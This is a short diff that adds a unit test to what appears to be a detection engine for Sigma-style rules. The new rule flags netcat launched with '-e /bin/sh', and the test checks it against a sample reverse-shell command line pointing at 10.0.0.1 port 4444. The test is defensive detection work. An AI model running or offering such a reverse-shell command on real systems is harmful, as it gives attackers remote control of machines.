@@ -530,3 +530,14 @@ def test_substring_needles_survive_the_builtin_pack(tmp_path):
     event = from_dict({"kind": "process", "ts": 0, "pid": 1, "argv": ["python3", "-c", "print(1)"],
                        "exe": "/usr/bin/python3", "parent_exe": "/usr/lib/jvm/bin/java"})
     assert "sigma:11111111-2222-3333-4444-555555555555" in {f.rule for f in Engine(ruleset).analyze(event)}
+
+
+def test_requires_hold_whatever_the_white_space(tmp_path):
+    """`cmd.line` is rebuilt with single spaces; the searched text keeps a tab."""
+    rule = one(tmp_path, """
+        sel:
+            Image|endswith: /nc
+            CommandLine|contains|all: [' -e ', '/bin/sh']
+        condition: sel
+    """)
+    assert fires(rule, action("nc\t-e /bin/sh 10.0.0.1 4444"))
